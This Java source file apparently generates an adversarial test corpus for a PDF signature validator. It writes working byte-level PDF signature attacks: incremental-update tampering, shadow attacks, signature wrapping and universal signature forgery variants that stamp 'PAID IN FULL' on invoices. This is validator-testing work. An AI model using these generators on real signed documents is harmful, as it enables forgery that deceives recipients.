package com.certyneo.engine.pades.adversarial;

import com.certyneo.engine.AuthenticationMethod;
import com.certyneo.engine.DocumentSource;
import com.certyneo.engine.DocumentTarget;
import com.certyneo.engine.PadesProfile;
import com.certyneo.engine.SignRequest;
import com.certyneo.engine.SignatureEngine;
import com.certyneo.engine.SignatureLevel;
import com.certyneo.engine.Signer;
import com.certyneo.engine.pades.adversarial.PdfFacts.Signature;
import com.certyneo.engine.pades.adversarial.SignedInputs.SignedInput;
import com.certyneo.engine.pades.adversarial.Variant.AttackClass;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSNull;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.common.PDRectangle;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Generates the adversarial corpus from a signed input. Every attack is written at the byte level:
 * incremental updates assembled by {@link IncrementalUpdate} (objects, classic table or xref stream,
 * trailer with /Prev, startxref, %%EOF, or deliberately not), or bytes moved around for signature
 * wrapping; PDFBox ({@link PdfFacts}) only tells object numbers, offsets and the current dictionaries.
 *
 * <p>Classes and ids (see {@link Variant.AttackClass}):
 * <ul>
 * <li>ISA {@code isa-a} … {@code isa-l}: page content replaced, page added, evil "PAID IN FULL"
 * annotation (also without %%EOF, with a mangled %EOF, in an xref stream or classic table against the
 * file's own form), object redefined with a new generation, an xref that only frees an object, a
 * page-tree cycle, an orphan object after %%EOF, garbage after the update, two chained updates;</li>
 * <li>shadow (needs a {@link ShadowDocument} input): hide ({@code hide-flag}, {@code hide-remove},
 * {@code unhide}), replace ({@code replace-xobject}, {@code replace-appearance}, {@code replace-font}),
 * hide-and-replace by an xref/trailer-only update ({@code hr-rewind}, {@code hr-alias}, {@code hr-root});</li>
 * <li>SWA: {@code swa-relocate} (second signed part moved to the end, new xref at the old offset, new
 * objects in the gap) and {@code swa-duplicate} (signature dictionary redefined with a /ByteRange over
 * a copy of the second signed part);</li>
 * <li>USF: the signature dictionary redefined with /Contents empty or missing, /ByteRange missing,
 * null, [0 0 0 0] or past the end of the file, or a forged second signature over the whole file;</li>
 * <li>BENIGN: the signed input unmodified (control), an empty signature field, an /Info-only update,
 * a co-signature and {@code extend} (B-LTA; a renewal on B-LTA inputs) by the engine;</li>
 * <li>WARN: garbage after %%EOF, and the /DSS dictionary removed from a B-LTA file.</li>
 * </ul>
 * Every attack that changes the document shows it visibly on page 1 (or as a page), so that an attack
 * the validator misses is seen by the render oracle.
 */
final class AttackGenerator {

    private static final String EVIL_TEXT = "PAID IN FULL";
    private static final String PLACEHOLDER = "0000000000";

    private final SignatureEngine engine;

    /** @param engine the sandbox engine, for the co-signature and extension; null leaves those out */
    AttackGenerator(SignatureEngine engine) {
        this.engine = engine;
    }

    /** @return the variants {@code input} wants, in a stable order */
    List<Variant> generate(SignedInput input) {
        List<Variant> out = new ArrayList<>();
        try (PdfFacts facts = new PdfFacts(input.bytes())) {
            Context c = new Context(input, facts, facts.attacked(), out);
            isa(c);
            if (input.shadow() != null) {
                shadow(c);
            }
            swa(c);
            usf(c);
            benign(c);
            warn(c);
        }
        return out;
    }

    /** The input being attacked and where variants go. */
    private static final class Context {
        final SignedInput input;
        final PdfFacts f;
        final Signature sig;
        final byte[] bytes;
        final byte[] signedRevision;
        final List<Variant> out;

        Context(SignedInput input, PdfFacts f, Signature sig, List<Variant> out) {
            this.input = input;
            this.f = f;
            this.sig = sig;
            this.bytes = f.bytes();
            this.signedRevision = Arrays.copyOf(bytes, (int) sig.end());
            this.out = out;
        }

        boolean wants(String id) {
            return input.wanted().test(id);
        }

        void add(AttackClass cls, String id, String description, Supplier<byte[]> attack) {
            add(cls, id, description, true, true, attack);
        }

        void add(AttackClass cls, String id, String description, boolean appendOnly, boolean wellFormed,
                 Supplier<byte[]> attack) {
            if (wants(id)) {
                out.add(new Variant(input.name(), cls, id, description, attack.get(), signedRevision, sig.field(),
                        appendOnly, wellFormed));
            }
        }

        IncrementalUpdate update() {
            return IncrementalUpdate.on(f);
        }
    }

    // ------------------------------------------------------------------------------------------------
    // ISA

    private void isa(Context c) {
        PdfFacts f = c.f;
        int page = f.pageNumber(0);
        c.add(AttackClass.ISA, "isa-a-contents", "page 1 /Contents replaced by new text", () -> {
            IncrementalUpdate u = c.update();
            replaceContents(u, f);
            return u.build();
        });
        c.add(AttackClass.ISA, "isa-b-add-page", "a new page appended to the page tree", () -> {
            IncrementalUpdate u = c.update();
            int font = font(u);
            int content = u.allocate();
            int added = u.allocate();
            u.stream(content, "", evilPageText(f.mediaBox(0)));
            PDRectangle box = f.mediaBox(0);
            u.object(added, "<< /Type /Page /Parent " + f.pagesNumber() + " 0 R /MediaBox [" + rect(box) + "] /Resources "
                    + fontResources(font) + " /Contents " + content + " 0 R >>");
            COSDictionary pages = Cos.copy(f.pages());
            COSArray kids = Cos.copyOfArray(pages.getItem(COSName.KIDS));
            kids.add(Cos.ref(added));
            pages.setItem(COSName.KIDS, kids);
            pages.setInt(COSName.COUNT, pages.getInt(COSName.COUNT) + 1);
            u.object(f.pagesNumber(), Cos.write(pages));
            return u.build();
        });
        c.add(AttackClass.ISA, "isa-c-evil-annotation", "FreeText annotation \"PAID IN FULL\" with /AP added to page 1",
                () -> evilAnnotationUpdate(c, "FreeText").build());
        c.add(AttackClass.ISA, "isa-d-no-eof", "isa-c without %%EOF at the end", true, false,
                () -> evilAnnotationUpdate(c, "FreeText").ending("").build());
        c.add(AttackClass.ISA, "isa-e-mangled-eof", "isa-c ending in a mangled \"%EOF\"", true, false,
                () -> evilAnnotationUpdate(c, "FreeText").ending("%EOF\n").build());
        c.add(AttackClass.ISA, "isa-f-new-generation", "page 1 content stream redefined as generation 1 ('n 1 obj', xref 00001 n)",
                () -> {
                    IncrementalUpdate u = c.update();
                    u.stream(f.mainContentNumber(0), 1, "", Cos.latin1(evilGraphics(f.mediaBox(0))));
                    return u.build();
                });
        boolean shadow = c.input.shadow() != null;
        c.add(AttackClass.ISA, "isa-g-free-only",
                shadow ? "xref-only update freeing the covering annotation (0000000000 00001 f)"
                        : "xref-only update freeing page 1's content stream (0000000000 00001 f)",
                true, shadow, // a freed stream in /Contents is a null qpdf warns about
                () -> {
                    IncrementalUpdate u = c.update();
                    u.free(shadow ? f.annotationNamed(0, ShadowDocument.COVER) : f.mainContentNumber(0), 1);
                    return u.build();
                });
        c.add(AttackClass.ISA, "isa-h-page-cycle", "page tree root lists itself in /Kids (cycle)", true, false, () -> {
            IncrementalUpdate u = c.update();
            COSDictionary pages = Cos.copy(f.pages());
            COSArray kids = Cos.copyOfArray(pages.getItem(COSName.KIDS));
            kids.add(Cos.ref(f.pagesNumber()));
            pages.setItem(COSName.KIDS, kids);
            u.object(f.pagesNumber(), Cos.write(pages));
            return u.build();
        });
        boolean stream = f.xrefStream();
        c.add(AttackClass.ISA, stream ? "isa-i-classic-table" : "isa-i-xref-stream",
                stream ? "Stamp \"PAID IN FULL\" in an update with a classic table after the file's xref streams"
                        : "Stamp \"PAID IN FULL\" in an update with a cross-reference stream after classic tables",
                () -> evilAnnotationUpdate(c, "Stamp")
                        .form(stream ? IncrementalUpdate.Form.CLASSIC : IncrementalUpdate.Form.STREAM).build());
        c.add(AttackClass.ISA, "isa-j-orphan-object", "page 1 content object redefined after %%EOF, no xref", true, false, () -> {
            int n = f.mainContentNumber(0);
            String graphics = evilGraphics(f.mediaBox(0));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(c.bytes);
            out.writeBytes(Cos.latin1("\n" + n + " 0 obj\n<< /Length " + graphics.length() + " >>\nstream\n" + graphics
                    + "\nendstream\nendobj\n"));
            return out.toByteArray();
        });
        c.add(AttackClass.ISA, "isa-k-garbage-after-update", "isa-a followed by garbage bytes after its %%EOF", true, false, () -> {
            IncrementalUpdate u = c.update();
            replaceContents(u, f);
            return u.trailing(garbage(7)).build();
        });
        c.add(AttackClass.ISA, "isa-l-two-updates", "isa-a, then a second update re-saving the page (restores nothing)", () -> {
            IncrementalUpdate u = c.update();
            String attackedPage = replaceContents(u, f);
            IncrementalUpdate second = u.chain();
            second.object(page, attackedPage);
            return second.build();
        });
    }

    /** Redefines page 1 to show only new text; @return the page's new dictionary */
    private static String replaceContents(IncrementalUpdate u, PdfFacts f) {
        int font = font(u);
        int content = u.allocate();
        u.stream(content, "", evilPageText(f.mediaBox(0)));
        COSDictionary page = Cos.copy(f.page(0));
        page.setItem(COSName.CONTENTS, Cos.ref(content));
        page.setItem(COSName.RESOURCES, fontResourceDictionary(font));
        String text = Cos.write(page);
        u.object(f.pageNumber(0), text);
        return text;
    }

    /** An update adding an opaque "PAID IN FULL" annotation of {@code subtype} to page 1. */
    private static IncrementalUpdate evilAnnotationUpdate(Context c, String subtype) {
        IncrementalUpdate u = c.update();
        int annotation = evilAnnotation(u, c.f, subtype);
        u.object(c.f.pageNumber(0), pageWithAnnotations(c.f, 0, List.of(annotation), -1));
        return u;
    }

    private static int font(IncrementalUpdate u) {
        int n = u.allocate();
        u.object(n, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>");
        return n;
    }

    private static String fontResources(int font) {
        return "<< /Font << /FAdv " + font + " 0 R >> >>";
    }

    private static COSDictionary fontResourceDictionary(int font) {
        COSDictionary fonts = new COSDictionary();
        fonts.setItem(COSName.getPDFName("FAdv"), Cos.ref(font));
        COSDictionary resources = new COSDictionary();
        resources.setItem(COSName.FONT, fonts);
        return resources;
    }

    /** Adds a font, an appearance stream and the annotation; @return the annotation's object number */
    private static int evilAnnotation(IncrementalUpdate u, PdfFacts f, String subtype) {
        int font = font(u);
        int appearance = u.allocate();
        int annotation = u.allocate();
        PDRectangle box = f.mediaBox(0);
        long x = Math.round(box.getLowerLeftX() + Math.min(60, box.getWidth() / 10));
        long y = Math.round(box.getLowerLeftY() + box.getHeight() * 0.6);
        u.stream(appearance, "/Type /XObject /Subtype /Form /BBox [0 0 320 60] /Resources " + fontResources(font),
                "1 1 0.6 rg 0 0 320 60 re f 0.8 0 0 rg BT /FAdv 34 Tf 12 16 Td (" + EVIL_TEXT + ") Tj ET");
        u.object(annotation, "<< /Type /Annot /Subtype /" + subtype + " /Rect [" + x + " " + y + " " + (x + 320) + " " + (y + 60)
                + "] /F 4 /NM (adversarial-evil) /Contents (" + EVIL_TEXT + ")"
                + ("FreeText".equals(subtype) ? " /DA (/Helv 34 Tf 0.8 0 0 rg)" : " /Name /Approved")
                + " /P " + f.pageNumber(0) + " 0 R /AP << /N " + appearance + " 0 R >> >>");
        return annotation;
    }

    /** Page {@code index}'s dictionary with annotations added and one (object number) removed. */
    private static String pageWithAnnotations(PdfFacts f, int index, List<Integer> added, long removed) {
        COSDictionary page = Cos.copy(f.page(index));
        COSArray annotations = Cos.copyOfArray(page.getItem(COSName.ANNOTS));
        COSArray kept = new COSArray();
        for (int i = 0; i < annotations.size(); i++) {
            if (Cos.number(annotations.get(i)) != removed || removed < 0) {
                kept.add(annotations.get(i));
            }
        }
        added.forEach(n -> kept.add(Cos.ref(n)));
        page.setItem(COSName.ANNOTS, kept);
        return Cos.write(page);
    }

    private static String evilPageText(PDRectangle box) {
        long x = Math.round(box.getLowerLeftX() + Math.min(60, box.getWidth() / 10));
        long y = Math.round(box.getLowerLeftY() + box.getHeight() * 0.7);
        return "1 1 1 rg " + Math.round(box.getLowerLeftX()) + " " + Math.round(box.getLowerLeftY()) + " "
                + Math.round(box.getWidth()) + " " + Math.round(box.getHeight()) + " re f\n"
                + "0.8 0 0 rg BT /FAdv 36 Tf " + x + " " + y + " Td (" + EVIL_TEXT + ") Tj ET\n"
                + "0 0 0 rg BT /FAdv 14 Tf " + x + " " + (y - 40) + " Td (Amount due: 0.00 EUR) Tj ET\n";
    }

    /** Content without fonts: two red bars across the page. */
    private static String evilGraphics(PDRectangle box) {
        long x = Math.round(box.getLowerLeftX());
        long w = Math.round(box.getWidth());
        long y = Math.round(box.getLowerLeftY() + box.getHeight() * 0.55);
        long h = Math.round(box.getHeight() * 0.1);
        return "0.8 0 0 rg " + x + " " + y + " " + w + " " + h + " re f " + x + " " + (y - 2 * h) + " " + w + " " + h + " re f";
    }

    private static String rect(PDRectangle box) {
        return Math.round(box.getLowerLeftX()) + " " + Math.round(box.getLowerLeftY()) + " " + Math.round(box.getUpperRightX())
                + " " + Math.round(box.getUpperRightY());
    }

    /** Deterministic binary garbage without PDF keywords. */
    private static byte[] garbage(long seed) {
        byte[] junk = new byte[384];
        new Random(seed).nextBytes(junk);
        for (int i = 0; i < junk.length; i++) {
            if (junk[i] == '%' || junk[i] == 's' || junk[i] == 'x' || junk[i] == 'o') {
                junk[i] = '#';
            }
        }
        byte[] head = Cos.latin1("\n--- garbage ---\n");
        byte[] out = Arrays.copyOf(head, head.length + junk.length);
        System.arraycopy(junk, 0, out, head.length, junk.length);
        return out;
    }

    // ------------------------------------------------------------------------------------------------
    // Shadow attacks

    private void shadow(Context c) {
        PdfFacts f = c.f;
        ShadowDocument shadow = c.input.shadow();
        int page = f.pageNumber(0);
        int cover = f.annotationNamed(0, ShadowDocument.COVER);
        int hidden = f.annotationNamed(0, ShadowDocument.HIDDEN);
        COSDictionary resources = Cos.copyOfDictionary(f.page(0).getItem(COSName.RESOURCES));
        COSDictionary forms = Cos.copyOfDictionary(resources.getItem(COSName.XOBJECT));
        COSDictionary fonts = Cos.copyOfDictionary(resources.getItem(COSName.FONT));

        c.add(AttackClass.SHADOW_HIDE, "hide-flag", "covering annotation flagged /F 2 (hidden): the text under it shows", () -> {
            COSDictionary a = Cos.copy(f.dictionary(cover));
            a.setInt(COSName.F, 2);
            return c.update().object(cover, Cos.write(a)).build();
        });
        c.add(AttackClass.SHADOW_HIDE, "hide-remove", "covering annotation removed from page 1 /Annots",
                () -> c.update().object(page, pageWithAnnotations(f, 0, List.of(), cover)).build());
        c.add(AttackClass.SHADOW_HIDE, "unhide", "hidden \"PAID IN FULL\" annotation flagged /F 4 (shown)", () -> {
            COSDictionary a = Cos.copy(f.dictionary(hidden));
            a.setInt(COSName.F, 4);
            return c.update().object(hidden, Cos.write(a)).build();
        });
        c.add(AttackClass.SHADOW_REPLACE, "replace-xobject", "page resource /Xg pointed at the signed but unused /Xe", () -> {
            COSDictionary r = Cos.copy(resources);
            COSDictionary x = Cos.copy(forms);
            x.setItem(ShadowDocument.GOOD_FORM, forms.getItem(ShadowDocument.EVIL_FORM));
            r.setItem(COSName.XOBJECT, x);
            COSDictionary p = Cos.copy(f.page(0));
            p.setItem(COSName.RESOURCES, r);
            return c.update().object(page, Cos.write(p)).build();
        });
        c.add(AttackClass.SHADOW_REPLACE, "replace-appearance", "covering annotation's /AP /N pointed at the unused /Xa", () -> {
            COSDictionary a = Cos.copy(f.dictionary(cover));
            COSDictionary ap = new COSDictionary();
            ap.setItem(COSName.N, forms.getItem(ShadowDocument.EVIL_APPEARANCE));
            a.setItem(COSName.AP, ap);
            return c.update().object(cover, Cos.write(a)).build();
        });
        c.add(AttackClass.SHADOW_REPLACE, "replace-font", "page font /FBody pointed at the unused /FAlt (ZapfDingbats)", () -> {
            COSDictionary r = Cos.copy(resources);
            COSDictionary fo = Cos.copy(fonts);
            fo.setItem(ShadowDocument.BODY_FONT, fonts.getItem(ShadowDocument.ALT_FONT));
            r.setItem(COSName.FONT, fo);
            COSDictionary p = Cos.copy(f.page(0));
            p.setItem(COSName.RESOURCES, r);
            return c.update().object(page, Cos.write(p)).build();
        });
        c.add(AttackClass.SHADOW_HIDE_REPLACE, "hr-rewind",
                "xref-only update pointing page 2's content object back at its signed revision-0 definition",
                () -> c.update().alias(shadow.rewindObject(), 0, shadow.rewindOffset()).build());
        c.add(AttackClass.SHADOW_HIDE_REPLACE, "hr-alias",
                "xref-only update pointing page 2's content object at another signed object (/Xe)", true, false,
                () -> c.update().alias(shadow.rewindObject(), 0, shadow.aliasOffset()).build());
        c.add(AttackClass.SHADOW_HIDE_REPLACE, "hr-root", "xref/trailer-only update: /Root is the signed, unused shadow catalog",
                () -> c.update().trailer("Root", Cos.write(f.catalog().getItem(ShadowDocument.SHADOW_ROOT))).build());
    }

    // ------------------------------------------------------------------------------------------------
    // Signature wrapping

    private void swa(Context c) {
        boolean relocatable = !c.f.xrefStream() && c.sig.end() == c.bytes.length;
        if (relocatable) {
            c.add(AttackClass.SWA, "swa-relocate",
                    "/ByteRange [0 b C d]: 2nd signed part moved to the end, new xref at the old startxref offset, evil annotation in the gap",
                    false, true, () -> swaRelocate(c));
        }
        c.add(AttackClass.SWA, "swa-duplicate",
                "signature dictionary redefined: same /Contents, /ByteRange over a copy of the 2nd signed part in a new stream; evil annotation",
                () -> {
                    long[] br = c.sig.byteRange();
                    byte[] part2 = Arrays.copyOfRange(c.bytes, (int) br[2], (int) c.sig.end());
                    IncrementalUpdate u = evilAnnotationUpdate(c, "FreeText");
                    COSDictionary sig = Cos.copy(c.f.dictionary(c.sig.dictionaryNumber()));
                    sig.removeItem(COSName.BYTERANGE);
                    String text = Cos.write(sig);
                    text = text.substring(0, text.length() - 2) + "/ByteRange [0 " + br[1] + " " + PLACEHOLDER + " " + br[3] + "] >>";
                    u.object(c.sig.dictionaryNumber(), text);
                    int holder = u.allocate();
                    u.stream(holder, 0, "", part2);
                    byte[] out = u.build();
                    int data = indexOf(out, "stream\n", (int) u.offsetOf(holder)) + "stream\n".length();
                    patch(out, (int) u.offsetOf(c.sig.dictionaryNumber()), "/ByteRange [0 " + br[1] + " " + PLACEHOLDER,
                            "/ByteRange [0 " + br[1] + " " + String.format("%010d", data));
                    return out;
                });
    }

    /**
     * The wrapping attack of Mladenov et al. 2019: the first signed part and the /Contents stay; the
     * /ByteRange (in the second part) now points its second range at a copy of the original second part
     * moved to the end of the file; at the old startxref offset (which the moved part still names) sits
     * a new classic table that redefines page 1 with an evil annotation written after it, in the gap.
     */
    private static byte[] swaRelocate(Context c) {
        byte[] b = c.bytes;
        long[] br = c.sig.byteRange();
        int gap = (int) br[1];
        int second = (int) br[2];
        int length = (int) br[3];
        String part2 = new String(b, second, length, StandardCharsets.ISO_8859_1);
        int at = part2.indexOf("/ByteRange");
        // Where /ByteRange is: after /Contents, in the second signed part (PDFBox, DSS and most writers), or before
        // it, in the first (the engine's own writer: then the rewritten /ByteRange also breaks the first part's
        // digest, and the attack must still be refused for that reason).
        String holder = part2;
        int base = second;
        if (at < 0 || at > part2.indexOf("endobj")) {
            holder = new String(b, 0, gap, StandardCharsets.ISO_8859_1);
            at = holder.lastIndexOf("/ByteRange");
            base = 0;
        }
        int close = holder.indexOf(']', at);
        int end = close + 1;
        while (end < holder.length() && holder.charAt(end) == ' ') {
            end++;
        }
        int width = end - at;
        long xref = IncrementalUpdate.lastStartxref(b);
        if (b[gap] != '<' || b[second - 1] != '>' || at < 0 || close < 0 || xref < Math.max(second, base + end)
                || xref >= second + length) {
            throw new IllegalStateException("unexpected signature layout for swa-relocate: " + Arrays.toString(br));
        }
        String tail = new String(b, (int) xref, b.length - (int) xref, StandardCharsets.ISO_8859_1);
        Map<Integer, long[]> rows = classicRows(tail);
        java.util.regex.Matcher prev = java.util.regex.Pattern.compile("/Prev\\s+(\\d+)").matcher(tail);
        String prevEntry = prev.find() ? " /Prev " + prev.group(1) : "";

        PdfFacts.Trailer trailer = c.f.trailer();
        int next = trailer.size();
        int font = next++;
        int appearance = next++;
        int annotation = next++;
        PDRectangle box = c.f.mediaBox(0);
        long x = Math.round(box.getLowerLeftX() + Math.min(60, box.getWidth() / 10));
        long y = Math.round(box.getLowerLeftY() + box.getHeight() * 0.6);
        String ap = "1 1 0.6 rg 0 0 320 60 re f 0.8 0 0 rg BT /FAdv 34 Tf 12 16 Td (" + EVIL_TEXT + ") Tj ET";
        Map<Integer, String> objects = new LinkedHashMap<>();
        objects.put(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>");
        objects.put(appearance, "<< /Type /XObject /Subtype /Form /BBox [0 0 320 60] /Resources " + fontResources(font)
                + " /Length " + ap.length() + " >>\nstream\n" + ap + "\nendstream");
        objects.put(annotation, "<< /Type /Annot /Subtype /FreeText /Rect [" + x + " " + y + " " + (x + 320) + " " + (y + 60)
                + "] /F 4 /Contents (" + EVIL_TEXT + ") /DA (/Helv 34 Tf 0.8 0 0 rg) /AP << /N " + appearance + " 0 R >> >>");
        objects.put(c.f.pageNumber(0), pageWithAnnotations(c.f, 0, List.of(annotation), -1));
        objects.keySet().forEach(n -> rows.put(n, new long[] {n, 0, 0, 1}));
        String trailerText = "/Size " + next + " /Root " + trailer.root() + (trailer.info() == null ? "" : " /Info " + trailer.info())
                + (trailer.id() == null ? "" : " /ID " + trailer.id()) + prevEntry;
        int tableLength = classicTable(rows, trailerText).length(); // fixed-width entries: independent of the offsets
        long offset = xref + tableLength;
        StringBuilder body = new StringBuilder();
        for (Map.Entry<Integer, String> o : objects.entrySet()) {
            rows.get(o.getKey())[1] = offset + body.length();
            body.append(o.getKey()).append(" 0 obj\n").append(o.getValue()).append("\nendobj\n");
        }
        body.append('\n');
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(b, 0, (int) xref);
        out.writeBytes(Cos.latin1(classicTable(rows, trailerText)));
        out.writeBytes(Cos.latin1(body.toString()));
        long moved = out.size();
        out.write(b, second, length);
        byte[] result = out.toByteArray();
        String range = "/ByteRange [0 " + gap + " " + moved + " " + length + "]";
        if (range.length() > width) {
            throw new IllegalStateException("no room for the new /ByteRange");
        }
        System.arraycopy(Cos.latin1(range + " ".repeat(width - range.length())), 0, result, base + at, width);
        return result;
    }

    /** The entries of the classic section at the start of {@code text}: number → {number, offset, gen, type}. */
    private static Map<Integer, long[]> classicRows(String text) {
        String[] tokens = text.substring(0, text.indexOf("trailer")).trim().split("\\s+");
        Map<Integer, long[]> rows = new java.util.TreeMap<>();
        int i = 1; // after "xref"
        while (i + 1 < tokens.length) {
            int first = Integer.parseInt(tokens[i]);
            int count = Integer.parseInt(tokens[i + 1]);
            i += 2;
            for (int k = 0; k < count; k++, i += 3) {
                rows.put(first + k, new long[] {first + k, Long.parseLong(tokens[i]), Long.parseLong(tokens[i + 1]),
                        "n".equals(tokens[i + 2]) ? 1 : 0});
            }
        }
        return rows;
    }

    private static String classicTable(Map<Integer, long[]> rows, String trailer) {
        StringBuilder x = new StringBuilder("xref\n");
        List<long[]> sorted = new ArrayList<>(rows.values());
        int i = 0;
        while (i < sorted.size()) {
            int j = i;
            while (j + 1 < sorted.size() && sorted.get(j + 1)[0] == sorted.get(j)[0] + 1) {
                j++;
            }
            x.append(sorted.get(i)[0]).append(' ').append(j - i + 1).append('\n');
            for (int k = i; k <= j; k++) {
                long[] r = sorted.get(k);
                x.append(String.format("%010d %05d %s \n", r[1], r[2], r[3] == 1 ? "n" : "f"));
            }
            i = j + 1;
        }
        return x.append("trailer\n<< ").append(trailer).append(" >>\n").toString();
    }

    // ------------------------------------------------------------------------------------------------
    // Universal signature forgery

    private void usf(Context c) {
        usfVariant(c, "usf-contents-empty", "/Contents <>", s -> s.setItem(COSName.CONTENTS, new COSString(new byte[0])));
        usfVariant(c, "usf-contents-missing", "/Contents removed", s -> s.removeItem(COSName.CONTENTS));
        usfVariant(c, "usf-byterange-missing", "/ByteRange removed", s -> s.removeItem(COSName.BYTERANGE));
        usfVariant(c, "usf-byterange-null", "/ByteRange null", s -> s.setItem(COSName.BYTERANGE, COSNull.NULL));
        usfVariant(c, "usf-byterange-zero", "/ByteRange [0 0 0 0]", s -> s.setItem(COSName.BYTERANGE, range(0, 0, 0, 0)));
        long[] br = c.sig.byteRange();
        usfVariant(c, "usf-byterange-outside", "/ByteRange past the end of the file",
                s -> s.setItem(COSName.BYTERANGE, range(br[0], br[1], br[2], br[3] + 10_000_000)));
        c.add(AttackClass.USF, "usf-forged-signature",
                "a second signature field whose zeroed /Contents and /ByteRange claim the whole file; evil annotation", () -> {
                    IncrementalUpdate u = c.update();
                    PdfFacts f = c.f;
                    int annotation = evilAnnotation(u, f, "FreeText");
                    int widget = u.allocate();
                    int sig = u.allocate();
                    u.object(sig, "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M (D:20300101120000Z)"
                            + " /ByteRange [" + PLACEHOLDER + " " + PLACEHOLDER + " " + PLACEHOLDER + " " + PLACEHOLDER + "]"
                            + " /Contents <" + "0".repeat(8192) + "> >>");
                    u.object(widget, "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Forged) /F 132 /Rect [0 0 0 0] /P "
                            + f.pageNumber(0) + " 0 R /V " + sig + " 0 R >>");
                    u.object(f.pageNumber(0), pageWithAnnotations(f, 0, List.of(annotation, widget), -1));
                    addField(u, f, widget);
                    byte[] out = u.build();
                    int contents = indexOf(out, "/Contents <", (int) u.offsetOf(sig)) + "/Contents ".length();
                    int after = indexOf(out, ">", contents) + 1;
                    patch(out, (int) u.offsetOf(sig), "/ByteRange [" + (PLACEHOLDER + " ").repeat(3) + PLACEHOLDER + "]",
                            String.format("/ByteRange [%010d %010d %010d %010d]", 0, contents, after, out.length - after));
                    return out;
                });
    }

    private void usfVariant(Context c, String id, String what, java.util.function.Consumer<COSDictionary> change) {
        c.add(AttackClass.USF, id, "signature dictionary redefined with " + what + "; evil annotation", () -> {
            IncrementalUpdate u = evilAnnotationUpdate(c, "FreeText");
            COSDictionary sig = Cos.copy(c.f.dictionary(c.sig.dictionaryNumber()));
            change.accept(sig);
            return u.object(c.sig.dictionaryNumber(), Cos.write(sig)).build();
        });
    }

    private static COSArray range(long... values) {
        COSArray a = new COSArray();
        for (long v : values) {
            a.add(COSInteger.get(v));
        }
        return a;
    }

    /** Adds {@code widget} to /AcroForm /Fields (redefining the AcroForm object, or the catalog holding it). */
    private static void addField(IncrementalUpdate u, PdfFacts f, int widget) {
        COSBase acroForm = f.catalog().getItem(COSName.ACRO_FORM);
        COSDictionary form = Cos.copyOfDictionary(acroForm);
        COSArray fields = Cos.copyOfArray(form.getItem(COSName.FIELDS));
        fields.add(Cos.ref(widget));
        form.setItem(COSName.FIELDS, fields);
        if (Cos.number(acroForm) >= 0) {
            u.object((int) Cos.number(acroForm), Cos.write(form));
        } else {
            COSDictionary catalog = Cos.copy(f.catalog());
            catalog.setItem(COSName.ACRO_FORM, form);
            u.object(f.catalogNumber(), Cos.write(catalog));
        }
    }

    // ------------------------------------------------------------------------------------------------
    // Benign and warn

    private void benign(Context c) {
        PdfFacts f = c.f;
        c.add(AttackClass.BENIGN, "benign-unmodified", "the signed input itself (control: must pass, renders the same)",
                () -> c.bytes.clone());
        c.add(AttackClass.BENIGN, "benign-empty-field", "a new empty signature field (widget, no /V, no /AP) in /AcroForm and page 1 /Annots", () -> {
            IncrementalUpdate u = c.update();
            int widget = u.allocate();
            PDRectangle box = f.mediaBox(0);
            long x = Math.round(box.getLowerLeftX() + 72);
            long y = Math.round(box.getLowerLeftY() + 72);
            u.object(widget, "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approver 2) /F 4 /Rect [" + x + " " + y + " "
                    + (x + 200) + " " + (y + 50) + "] /P " + f.pageNumber(0) + " 0 R >>");
            u.object(f.pageNumber(0), pageWithAnnotations(f, 0, List.of(widget), -1));
            addField(u, f, widget);
            return u.build();
        });
        c.add(AttackClass.BENIGN, "benign-info", "an /Info-only update (/ModDate)", () -> {
            IncrementalUpdate u = c.update();
            COSDictionary info = f.infoNumber().map(n -> Cos.copyOfDictionary(f.object(n))).orElseGet(COSDictionary::new);
            info.setString(COSName.MOD_DATE, "D:20300101120000Z");
            if (f.infoNumber().isPresent()) {
                u.object(f.infoNumber().get(), Cos.write(info));
            } else {
                int n = u.allocate();
                u.object(n, Cos.write(info));
                u.trailer("Info", n + " 0 R");
            }
            return u.build();
        });
        if (engine == null) {
            return;
        }
        c.add(AttackClass.BENIGN, "benign-cosign", "a second signature by the engine (SES, B-B)", () -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            engine.sign(SignRequest.builder().document(DocumentSource.of(c.bytes, c.input.name() + ".pdf"))
                    .output(DocumentTarget.of(out))
                    .signer(Signer.parse("Bob Example <bob@example.com>").authenticatedBy(AuthenticationMethod.EMAIL_OTP, Instant.now()))
                    .level(SignatureLevel.SES).profile(PadesProfile.B_B).build());
            return out.toByteArray();
        });
        c.add(AttackClass.BENIGN, "benign-extend",
                c.input.profile() == PadesProfile.B_LTA ? "engine.extend to B-LTA again (archive time-stamp renewal)"
                        : "engine.extend to B-LTA (document time-stamp)", () -> {
                    ByteArrayOutputStream out = new ByteArrayOutputStream();
                    engine.extend(DocumentSource.of(c.bytes, c.input.name() + ".pdf"), DocumentTarget.of(out), PadesProfile.B_LTA);
                    return out.toByteArray();
                });
    }

    private void warn(Context c) {
        c.add(AttackClass.WARN, "warn-garbage-after-eof", "garbage bytes after the last %%EOF", true, false, () -> {
            byte[] junk = garbage(42);
            byte[] out = Arrays.copyOf(c.bytes, c.bytes.length + junk.length);
            System.arraycopy(junk, 0, out, c.bytes.length, junk.length);
            return out;
        });
        if (c.f.catalog().containsKey(COSName.getPDFName("DSS"))) {
            c.add(AttackClass.WARN, "warn-dss-removed", "catalog redefined without its /DSS dictionary", () -> {
                COSDictionary catalog = Cos.copy(c.f.catalog());
                catalog.removeItem(COSName.getPDFName("DSS"));
